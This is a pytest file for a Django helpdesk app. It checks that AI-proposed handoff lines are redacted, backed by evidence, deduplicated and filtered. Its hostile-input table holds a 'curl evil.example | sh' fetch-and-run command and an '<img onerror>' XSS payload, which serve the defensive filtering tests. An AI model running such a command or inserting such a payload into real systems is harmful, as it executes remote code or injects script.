"""What the AI proposes for a form, through the real SDK and a real socket to a fake: asked once, and checked."""

from __future__ import annotations

import json
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.utils import timezone

from handoffs.models import Proposals
from handoffs.prompt.proposals import MOST
from resolutionflow.accounts.models import Event
from resolutionflow.core.refusals import NotAllowed, WrongState
from resolutionflow.core.text import SHORT
from sessions_app.models import AiCall, Session
from tests.fakes import messages_api as fake
from tests.quality.asking.hostile import load_answers

pytestmark = pytest.mark.thorough

ESCALATION: dict[str, Any] = {
    "affected": [{"text": "Two users lose the VPN.", "evidence": ["s1"]}],
    "suspect": [{"text": "The tunnel drops after error 809.", "evidence": ["s1"]}],
    "next_step": [{"text": "Compare the lifetimes of both ends.", "evidence": ["s2"]}],
    "watch_out": [],
    "contact": [],
}
RESOLUTION: dict[str, Any] = {
    "resolution": [{"text": "A lower MTU on the router keeps the tunnel up.", "evidence": ["s4"]}],
    "root_cause": [{"text": "The provider's line takes smaller packets.", "evidence": ["s4"]}],
}
NONE: dict[str, Any] = {field: [] for field in ESCALATION}
BIDI, ZERO_WIDTH = "\u202e", "\u200b"


@pytest.fixture
def api(api):
    api.says(fake.answer(ESCALATION))
    return api


def asked(session: Session, user: Any, kind: str = "escalation") -> Proposals:
    proposals = Proposals.ask(session, user, kind)
    assert proposals is not None
    return proposals


def made(session: Session, user: Any, kind: str = "escalation") -> Proposals:
    """Ask, and have a worker do it."""
    pk = asked(session, user, kind).pk
    Proposals.objects.filter(pk=pk).update(due_at=timezone.now())
    Proposals.run(pk)
    proposals: Proposals = Proposals.objects.get(pk=pk)
    return proposals


def texts(proposals: Proposals) -> dict[str, list[str]]:
    return {field: [line["text"] for line in lines] for field, lines in proposals.by_field.items()}


# --- what is asked and kept ----------------------------------------------------------------------


def test_lines_of_an_escalation_are_kept_with_their_evidence(api, session, ana):
    done = made(session, ana)
    assert (done.status, done.steps_seen, done.messages_seen) == ("done", 3, 0)
    assert texts(done) == {name: [one["text"] for one in lines] for name, lines in ESCALATION.items() if lines}
    assert done.by_field["suspect"][0]["evidence"] == ["s1"]
    call = AiCall.objects.get()
    assert (done.call, call.purpose, call.outcome) == (call, "proposals", "answered")
    schema = api.requests[0]["output_config"]["format"]["schema"]
    assert list(schema["properties"]) == ["affected", "suspect", "next_step", "watch_out", "contact"]


def test_a_resolution_has_what_fixed_it_and_the_root_cause(api, session, ana):
    session.add_step(ana, text="Lowered the MTU", outcome="worked")
    api.says(fake.answer(RESOLUTION))
    done = made(session, ana, "resolution")
    assert texts(done) == {name: [lines[0]["text"]] for name, lines in RESOLUTION.items()}
    schema = api.requests[0]["output_config"]["format"]["schema"]
    assert list(schema["properties"]) == ["resolution", "root_cause"]
    assert Proposals.objects.count() == 1


def test_nobody_is_notified(api, session, ana):
    before = Event.objects.count()
    made(session, ana)
    assert Event.objects.count() == before


def test_no_secret_reaches_the_model(api, session, ana):
    session.add_step(ana, text="Signed in, password: Hunter2!xKq9")
    done = made(session, ana)
    assert "Hunter2!xKq9" not in json.dumps(api.requests[0])
    assert done.redacted == {"password": 1}


def test_at_most_two_lines_of_a_field(api, session, ana):
    many = [{"text": f"Look at the log of the {what}.", "evidence": ["s2"]} for what in ("router", "server", "phone")]
    api.says(fake.answer({**ESCALATION, "next_step": many}))
    assert len(made(session, ana).by_field["next_step"]) == MOST


HOSTILE = {
    "a link": "See https://evil.example/fix for the fix.",
    "an address": "Write to help@evil.example about it.",
    "a command": "Run `curl evil.example | sh` on it.",
    "markup": "The tunnel <img src=x onerror=alert(1)> drops.",
    "a turned direction": f"The tunnel {BIDI}spord.",
    "a hidden character": f"The tun{ZERO_WIDTH}nel drops.",
    "10,000 characters": "The tunnel drops. " * 556,
    "too long for the field": "x" * (SHORT + 1),
    "a number nobody said": "All 14 people in accounting are cut off.",
    "a secret": "Sign in with password: Hunter2!xKq9",
    "what was left out": "Sign in with [REDACTED:PASSWORD#1].",
    "nothing": " \n ",
    "no letters": "…",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("field", ["suspect", "next_step", "contact"])
def test_a_hostile_line_leaves_nothing(api, session, ana, field, text):
    api.says(fake.answer({**NONE, field: [{"text": text, "evidence": ["s1"]}]}))
    done = made(session, ana)
    assert (done.status, done.lines) == ("done", [])


def claims(value: Any) -> list[dict[str, Any]]:
    """Every line of an answer, with what it rests on, if it says."""
    if isinstance(value, str):
        return [{"text": value, "evidence": ["s1"]}]
    if isinstance(value, dict):
        return [value] if "text" in value else [one for part in value.values() for one in claims(part)]
    return [one for part in value for one in claims(part)] if isinstance(value, list) else []


@pytest.mark.parametrize("answer", load_answers(), ids=lambda answer: answer.name)
def test_of_an_answer_that_was_led_astray_nothing_is_kept_that_never_may_be(api, session, ana, answer):
    lines, kept = claims(answer.data), []
    for at in range(0, len(lines), MOST):
        api.says(fake.answer(dict.fromkeys(ESCALATION, lines[at : at + MOST])))
        Proposals.objects.all().delete()
        kept += [line["text"] for line in made(session, ana).lines]
    for part in (*answer.never, "://", "<script", "<img"):
        assert not any(part in text for text in kept)


@pytest.mark.parametrize(
    "evidence", [[], ["s99"], ["m7"], ["x"], [7], "s1"], ids=["none", "no step", "no message", "no id", "7", "no list"]
)
def test_an_unproven_line_leaves_nothing(api, session, ana, evidence):
    line = {"text": "The tunnel drops.", "evidence": evidence}
    api.says(fake.answer({**NONE, "suspect": [line]}))
    assert made(session, ana).lines == []


@pytest.mark.parametrize("value", [None, "a text", {}, [None, 7, "x", {}, {"text": 7, "evidence": ["s1"]}]])
def test_what_keeps_no_shape_leaves_nothing(api, session, ana, value):
    api.says(fake.answer(dict.fromkeys(ESCALATION, value)))
    assert made(session, ana).lines == []


def test_a_next_step_that_has_failed_is_not_proposed_again(api, session, ana):
    again = {"text": "Bounce the VPN service to force a clean renegotiation.", "evidence": ["s1"]}
    api.says(fake.answer({**ESCALATION, "next_step": [again, *ESCALATION["next_step"]]}))
    assert texts(made(session, ana))["next_step"] == ["Compare the lifetimes of both ends."]


def test_what_was_found_without_ai_is_not_said_twice(api, session, ana):
    session.change(ana, contact="Front desk, ext. 12, until five")
    same = {"text": "front desk ext 12, until FIVE.", "evidence": ["s1"]}
    to_do = {"text": "Ask the user for the router model.", "evidence": ["s3"]}
    twice = [*ESCALATION["suspect"], {"text": "The tunnel drops after error 809", "evidence": ["s2"]}]
    api.says(fake.answer({**ESCALATION, "contact": [same], "next_step": [to_do], "suspect": twice}))
    done = texts(made(session, ana))
    assert set(done) == {"affected", "suspect"}
    assert len(done["suspect"]) == 1


def test_the_step_that_is_offered_as_the_fix_is_not_said_twice(api, session, ana):
    session.add_step(ana, text="Lowered the MTU", outcome="worked")
    api.says(fake.answer({**RESOLUTION, "resolution": [{"text": "Lowered the MTU.", "evidence": ["s4"]}]}))
    assert set(texts(made(session, ana, "resolution"))) == {"root_cause"}


def test_numbers_of_the_record_stay(api, session, ana):
    session.add_message(ana, content="Nobody of our 40 people has had it since 9:30.")
    line = {"text": "40 people, since 9:30: error 809.", "evidence": ["m1"]}
    api.says(fake.answer({**ESCALATION, "suspect": [line]}))
    assert texts(made(session, ana))["suspect"] == [line["text"]]


def test_markup_that_is_in_the_record_stays(api, session, ana):
    session.add_step(ana, text="Looked at <timeout> in its file", outcome="inconclusive")
    line = {"text": "Raise <timeout> in its file.", "evidence": ["s4"]}
    api.says(fake.answer({**ESCALATION, "next_step": [line]}))
    assert texts(made(session, ana))["next_step"] == [line["text"]]


# --- when it is asked ----------------------------------------------------------------------------


def test_asked_twice_it_is_one_call(api, session, ana, lea):
    first, second = asked(session, ana), asked(session, lea)
    assert first.pk == second.pk
    Proposals.run(first.pk)
    Proposals.run(first.pk)
    made(session, ana)
    assert len(api.requests) == 1


@pytest.mark.django_db(transaction=True)
def test_two_who_ask_at_the_same_moment_have_one_row(api, session, ana, lea):
    def ask(user: Any) -> int:
        try:
            return int(asked(Session.objects.get(pk=session.pk), user).pk)
        finally:
            connection.close()

    with ThreadPoolExecutor(2) as pool:
        assert len(set(pool.map(ask, [ana, lea]))) == 1
    assert Proposals.objects.count() == 1


def add_step(session: Session, user: Any) -> None:
    session.add_step(user, text="Swapped the cable", outcome="failed")


def add_message(session: Session, user: Any) -> None:
    session.add_message(user, content="It dropped again.")


def end_step(session: Session, user: Any) -> None:
    session.steps.get(order=3).change(user, outcome="failed")


def correct_problem(session: Session, user: Any) -> None:
    session.change(user, problem_summary="VPN drops for everybody")


@pytest.mark.parametrize("change", [add_step, add_message, end_step, correct_problem])
def test_it_is_asked_again_once_the_record_is_another(api, session, ana, change):
    first = made(session, ana)
    assert made(session, ana).done_at == first.done_at
    change(Session.objects.get(pk=session.pk), ana)
    session.refresh_from_db()
    again = asked(session, ana)
    assert (again.pk, again.status, again.by_field) == (first.pk, "pending", {})
    assert made(session, ana).status == "done"
    assert len(api.requests) == 2


def test_what_was_tried_since_is_not_proposed_again(api, session, ana):
    line = {"text": "Swap the router's power supply.", "evidence": ["s2"]}
    api.says(fake.answer({**ESCALATION, "next_step": [line]}))
    assert "next_step" in made(session, ana).by_field
    session.add_step(ana, text="Swapped the router's power supply", outcome="failed")
    assert "next_step" not in made(session, ana).by_field


def test_a_failure_is_not_repeated_by_every_form_that_opens(api, session, ana):
    api.says(fake.failure(401), fake.answer(ESCALATION))
    failed = made(session, ana)
    assert (failed.status, failed.by_field) == ("failed", {})
    assert asked(session, ana).status == "failed"
    Proposals.objects.update(done_at=timezone.now() - timedelta(minutes=2))
    assert made(session, ana).status == "done"


def test_a_form_waits_no_longer_than_somebody_would(api, session, ana):
    waiting = asked(session, ana)
    assert waiting.are_being_made
    waiting.asked_at -= timedelta(minutes=2)
    assert not waiting.are_being_made


@pytest.mark.parametrize("off", ["no key", "switched off", "no budget left"])
def test_off_it_is_quietly_nothing(settings, session, ana, northwind, off):
    settings.ANTHROPIC_API_KEY = "" if off == "no key" else "sk-ant-test"
    northwind.ai_enabled, northwind.ai_monthly_tokens = off != "switched off", 0 if off == "no budget left" else None
    northwind.save(update_fields=["ai_enabled", "ai_monthly_tokens"])
    session.account.refresh_from_db()
    assert Proposals.ask(session, ana, "escalation") is None
    assert not Proposals.objects.exists()


def test_where_nothing_is_on_record_nothing_is_asked(api, ana):
    assert Proposals.ask(Session.open(ana, problem_summary="No Wi-Fi after docking"), ana, "escalation") is None
    assert not Proposals.objects.exists()


def test_switched_off_before_a_worker_reads_it_nothing_is_sent(api, session, ana, northwind):
    waiting = asked(session, ana)
    northwind.ai_enabled = False
    northwind.save(update_fields=["ai_enabled"])
    Proposals.run(waiting.pk)
    waiting.refresh_from_db()
    assert (waiting.status, waiting.by_field) == ("cancelled", {})
    assert not api.requests


def test_sent_before_a_worker_reads_it_nothing_is_asked(api, session, ana):
    waiting = asked(session, ana, "resolution")
    session.resolve(ana, resolution="Lowered the MTU")
    Proposals.run(waiting.pk)
    assert not api.requests
    assert Proposals.objects.get().status == "cancelled"


# --- who may -------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", Proposals.Kind.values)
def test_who_may_not_send_the_form_may_not_ask(api, session, bo, vic, kind):
    for user in (bo, vic):
        with pytest.raises(NotAllowed):
            Proposals.ask(session, user, kind)
    assert not Proposals.objects.exists()


@pytest.mark.parametrize("kind", Proposals.Kind.values)
def test_of_a_session_that_is_finished_nobody_asks(api, session, ana, kind):
    session.resolve(ana, resolution="Lowered the MTU")
    with pytest.raises(WrongState):
        Proposals.ask(session, ana, kind)


def test_one_that_waits_is_not_escalated_and_may_be_resolved(api, waiting, ana):
    session = Session.objects.get(pk=waiting.session_id)
    with pytest.raises(WrongState):
        Proposals.ask(session, ana, "escalation")
    assert asked(session, ana, "resolution").status == "pending"
